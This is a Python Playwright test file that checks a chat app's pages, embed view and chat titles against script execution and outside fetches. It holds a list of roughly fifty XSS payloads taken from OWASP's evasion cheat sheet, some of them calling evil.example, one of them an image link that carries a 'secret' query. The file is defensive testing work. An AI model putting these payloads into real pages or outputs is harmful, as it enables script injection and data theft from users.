"""HTML and script in a model's output, a user's text and a chat's title: nothing runs, nothing is fetched."""

import pytest
from playwright.async_api import Page, Request, expect

from chat_app.ui.transcript import FIRST
from tests.app import App
from tests.e2e.chat import ChatPage, import_turns
from tests.e2e.embed import EmbedPage

pytestmark = pytest.mark.anyio

# After OWASP's XSS filter evasion cheat sheet. Each would set `window.hacked` or fetch from evil.example.
CASES = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    '<IMG SRC="javascript:window.hacked=1;">',
    '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:window.hacked=1)",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<body onload=window.hacked=1>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<div style=\"background-image:url('https://evil.example/bg.png')\">x</div>",
    '<div style="width: expression(window.hacked=1);">x</div>',
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><button>Send</button></form>",
    "<video src=https://evil.example/v.mp4 onerror=window.hacked=1></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<a href=javascript:window.hacked=1 autofocus>click</a>",
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[click](vbscript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "<math><mtext></table></math><img src=x onerror=window.hacked=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "<template><img src=x onerror=window.hacked=1></template>",
    "```html\n<img src=x onerror=window.hacked=1>\n```",
    '```mermaid\ngraph LR; A["<img src=x onerror=window.hacked=1>"]-->B; click A "javascript:window.hacked=1"\n```',
    '```mermaid\ngraph LR; A["<img src=https://evil.example/m.png>"]-->B\n```',
    '```mermaid\ngraph LR; A["<b style=background:url(https://evil.example/b)>x</b>"]-->B\n```',
    '```mermaid\ngraph LR; A@{ img: "https://evil.example/shape.png", label: "x", w: 60, h: 60 }-->B\n```',
    '```mermaid\ngraph LR; A["`![x](https://evil.example/md.png)`"]-->B; click A href "https://evil.example/"\n```',
    "```mermaid\ngraph LR; A-->B; style A fill:red;background-image:url(//evil.example/s)\n```",
    '```mermaid\n%%{init: {"themeCSS": "@import url(//evil.example/i.css); rect { fill: url(//e.example/t#a) }"}}%%\n'
    "graph LR; A-->B\n```",
    '```mermaid\n%%{init: {"securityLevel": "loose", "fontFamily": "x; background: url(//evil.example/f)"}}%%\n'
    'graph LR; A-->B; click A call alert("window.hacked")\n```',
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "$$\\includegraphics{https://evil.example/x.png}\\htmlStyle{background:url(//evil.example/h)}{x}$$",
    '<!--<img src="--><img src=x onerror=window.hacked=1//">',
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
]

# A diagram that is neither drawn nor found wrong yet.
UNDRAWN = '[data-streamdown="mermaid-block"]:not(:has(svg[aria-roledescription], .broken))'


@pytest.fixture
def foreign(page: Page, app: App) -> list[str]:
    """What is fetched from elsewhere, and dialogs."""
    found: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((app.url, "data:", "blob:")):
            found.append(request.url)

    def unsent(request: Request) -> None:
        """The browser shows a request also where the page's policy kept it from being sent."""
        if request.failure == "csp":
            found.remove(request.url)

    page.on("request", note)
    page.on("requestfailed", unsent)
    page.on("dialog", lambda dialog: found.append(dialog.message))
    return found


async def test_nothing_runs_and_nothing_is_fetched_on_the_page(page: Page, app: App, foreign: list[str]) -> None:
    chat = await ChatPage(page, app).open()
    await told_together(chat)
    await harmless(page, foreign)
    # Each alone, as they are stored; one component shows them all, growing or not.
    for some in [CASES[n : n + FIRST // 2] for n in range(0, len(CASES), FIRST // 2)]:
        await chat.open(f"/c/{import_turns(app, [('And?', text) for text in some], 'Answers')}")
        for number in range(len(some)):
            answer = chat.answers.nth(number)
            # What is not on the screen is not drawn. In one step: the page may still be replacing its rows.
            await answer.evaluate("row => row.scrollIntoView({ block: 'nearest' })")
            await expect(answer.locator(UNDRAWN)).to_have_count(0)
        await expect(chat.answers).to_have_count(len(some))
        await harmless(page, foreign)


async def test_nothing_runs_and_nothing_is_fetched_at_embed(page: Page, app: App, foreign: list[str]) -> None:
    chat = await EmbedPage(page).open(app.url)
    await told_together(chat)
    # Each alone, as they come.
    for text in CASES:
        await chat.ask(text=text)
        answer = await chat.ended()
        await expect(answer.locator(UNDRAWN)).to_have_count(0)
    await harmless(page, foreign)


async def told_together(chat: ChatPage | EmbedPage) -> None:
    """As a user's text, and as a model's output."""
    together = "\n\n".join(CASES)
    await chat.ask("<img src=x onerror=window.hacked=1> <b>title</b>\n" + together)
    await chat.ended()
    await chat.ask(text=together)
    await chat.ended()


async def test_a_chats_title_is_text(page: Page, app: App, foreign: list[str]) -> None:
    chat = await ChatPage(page, app).open()
    await chat.ask("Hello")
    await chat.ended()
    for title in (
        "<script>window.hacked=1</script>",
        "<img src=https://evil.example/title.png onerror=window.hacked=1>",
    ):
        renamed = app.http.patch(f"/chats/{await chat.chat_id()}", json={"title": title})
        assert renamed.is_success
        await expect(page.get_by_role("link", name=title)).to_be_visible()
    await nothing_happened(page, foreign)


async def harmless(page: Page, foreign: list[str]) -> None:
    links = await page.locator("article a").evaluate_all("(all) => all.map((one) => one.getAttribute('href') ?? '')")
    for href in links:
        assert href.startswith(("http://", "https://", "#", "mailto:")) or href == "", href
    # A diagram brings a style sheet and pictures of its own, inside its picture.
    harmful = "script, iframe, object, embed, form, img:not(svg img), style:not(svg style)"
    await expect(page.locator(f"article :is({harmful})")).to_have_count(0)
    await nothing_happened(page, foreign)


async def nothing_happened(page: Page, foreign: list[str]) -> None:
    assert await page.evaluate("window.hacked") is None
    assert foreign == []
